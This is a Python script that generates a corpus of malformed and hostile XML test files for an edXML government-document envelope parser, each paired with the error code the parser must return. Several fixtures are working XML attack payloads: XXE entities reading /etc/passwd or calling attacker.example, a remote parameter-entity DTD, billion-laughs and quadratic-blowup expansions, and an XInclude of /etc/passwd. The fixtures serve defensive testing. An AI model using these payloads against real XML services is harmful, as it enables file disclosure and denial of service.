"""Regenerate the hostile envelope corpus: ``python tests/corpus/make_envelope_corpus.py``.

Each case is a small file in ``envelope/`` and a line in ``envelope/expected.txt`` naming the
error code it must produce. Cases too big to commit (a 20 MiB text node) are made by the
tests themselves.
"""

from __future__ import annotations

from pathlib import Path

HERE = Path(__file__).parent / "envelope"
NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"


def package(header_extra: str = "", sender: str = "000.00.00.G22", root: str = "edXML",
            ns: str = NS, subject: str = "Thử nghiệm", body: str | None = None,
            attachments: str = "") -> str:
    body = body if body is not None else """
    <edXMLBody><edXMLManifest version="1.0"/></edXMLBody>"""
    return f"""<{root} xmlns="{ns}">
  <edXMLEnvelope>
    <edXMLHeader>
      <MessageHeader>
        <From><OrganId>{sender}</OrganId><OrganName>Văn phòng Chính phủ</OrganName></From>
        <To><OrganId>000.00.00.H41</OrganId></To>
        <DocumentId>000.00.00.G22,2026/11/01,1/VPCP</DocumentId>
        <Code><CodeNumber>1</CodeNumber><CodeNotation>VPCP</CodeNotation></Code>
        <PromulgationInfo><Place>Hà Nội</Place><PromulgationDate>2026/11/01</PromulgationDate></PromulgationInfo>
        <DocumentType><Type>1</Type><TypeName>Công văn</TypeName></DocumentType>
        <Subject>{subject}</Subject>
        <SignerInfo><FullName>Nguyễn Văn A</FullName></SignerInfo>{header_extra}
      </MessageHeader>
    </edXMLHeader>{body}
  </edXMLEnvelope>{attachments}
</{root}>
"""


DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


def cases() -> dict[str, tuple[bytes, str]]:
    def text(s: str) -> bytes:
        return s.encode("utf-8")

    deep = "<Content>" + "<x>" * 300 + "deep" + "</x>" * 300 + "</Content>"
    laughs = "".join(
        f'  <!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">\n' for i in range(1, 10)
    )
    big = "A" * 20_000
    return {
        "xxe_file.xml": (text(DECL + '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                              + package(subject="&xxe;")), "envelope.dtd_forbidden"),
        "xxe_network.xml": (text(DECL + '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM '
                                 '"http://attacker.example/steal">]>\n'
                                 + package(subject="&xxe;")), "envelope.dtd_forbidden"),
        "xxe_parameter_entity.xml": (text(
            DECL + '<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">'
            ' %remote;]>\n' + package()), "envelope.dtd_forbidden"),
        "billion_laughs.xml": (text(DECL + '<!DOCTYPE edXML [\n  <!ENTITY lol0 "lol">\n' + laughs
                                    + ']>\n' + package(subject="&lol9;")),
                               "envelope.dtd_forbidden"),
        "quadratic_blowup.xml": (text(DECL + f'<!DOCTYPE edXML [<!ENTITY a "{big}">]>\n'
                                      + package(subject="&a;" * 2000)),
                                 "envelope.dtd_forbidden"),
        "external_dtd.xml": (text(DECL + '<!DOCTYPE edXML SYSTEM "http://attacker.example/e.dtd">\n'
                                  + package()), "envelope.dtd_forbidden"),
        "doctype_after_comment.xml": (text(DECL + "<!-- hello -->\n<!DOCTYPE edXML []>\n"
                                           + package()), "envelope.dtd_forbidden"),
        "undefined_entity.xml": (text(DECL + package(subject="&secret;")),
                                 "envelope.entity_forbidden"),
        "xinclude.xml": (text(DECL + package(
            header_extra='\n        <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                         'href="file:///etc/passwd" parse="text"/>')),
            "envelope.xinclude_forbidden"),
        "nesting_300.xml": (text(DECL + package(header_extra="\n        " + deep)),
                            "envelope.too_deep"),
        "wrong_encoding.xml": (DECL.encode() + package(subject="Hà Nội").encode("cp1258", "replace"),
                               "envelope.bad_encoding"),
        "junk_before_declaration.xml": (b"1212" + text(DECL + package()),
                                        "envelope.junk_before_xml"),
        "whitespace_before_declaration.xml": (b"\n  " + text(DECL + package()),
                                              "envelope.junk_before_xml"),
        "wrong_namespace.xml": (text(DECL + package(ns="http://example.org/not-edxml")),
                                "envelope.wrong_namespace"),
        "wrong_root.xml": (text(DECL + package(root="Envelope")), "envelope.wrong_root"),
        "not_xml.xml": (b"%PDF-1.7 this is not XML at all\n", "envelope.not_xml"),
        "truncated.xml": (text(DECL + package())[:300], "envelope.not_xml"),
        "empty.xml": (b"", "envelope.empty"),
        "huge_attribute.xml": (text(DECL + package().replace(
            '<edXMLManifest version="1.0"/>', f'<edXMLManifest version="{"9" * 5000}"/>')),
            "envelope.attribute_too_large"),
        "missing_subject.xml": (text(DECL + package().replace(
            "<Subject>Thử nghiệm</Subject>", "")), "envelope.schema"),
        "status_code_99.xml": (text(DECL + STATUS.replace("<StatusCode>03<", "<StatusCode>99<")),
                               "envelope.schema"),
        "bad_date.xml": (text(DECL + package().replace("2026/11/01</Prom", "01-11-2026</Prom")),
                         "envelope.schema"),
        # A code outside the official forms is a quirk (tests/corpus/quirks); one that
        # could not even name a node on a hub is refused.
        "unusable_identifier.xml": (text(DECL + package(sender="000/00/00/G22")),
                                    "envelope.bad_identifier"),
        "manifest_without_attachment.xml": (text(DECL + package(body="""
    <edXMLBody><edXMLManifest version="1.0"><Reference><ContentId>cid:1</ContentId>
      <ContentType>application/pdf</ContentType><AttachmentName>a.pdf</AttachmentName>
    </Reference></edXMLManifest></edXMLBody>""")), "envelope.bad_attachment"),
        "status_with_attachments.xml": (text(DECL + STATUS.replace(
            "</edXMLEnvelope>", "</edXMLEnvelope><AttachmentEncoded/>")),
            "envelope.inconsistent"),
    }


STATUS = f"""<edXML xmlns="{NS}">
  <edXMLEnvelope>
    <edXMLHeader>
      <MessageHeader>
        <From><OrganId>000.00.00.H41</OrganId></From>
        <ResponseFor><OrganId>000.00.00.G22</OrganId><Code>1/VPCP</Code>
          <DocumentId>000.00.00.G22,2026/11/01,1/VPCP</DocumentId></ResponseFor>
        <StaffInfo><Department>Văn thư</Department><Staff>Trần Thị B</Staff></StaffInfo>
        <StatusCode>03</StatusCode>
        <Description>Đã tiếp nhận</Description>
        <Timestamp>2026/11/02 08:30:00</Timestamp>
      </MessageHeader>
    </edXMLHeader>
  </edXMLEnvelope>
</edXML>
"""


def main() -> None:
    HERE.mkdir(exist_ok=True)
    lines = []
    for name, (data, code) in sorted(cases().items()):
        (HERE / name).write_bytes(data)
        lines.append(f"{name} {code}")
    (HERE / "expected.txt").write_text(
        "# file  error code it must produce (regenerate: make_envelope_corpus.py)\n"
        + "\n".join(lines) + "\n"
    )


if __name__ == "__main__":
    main()
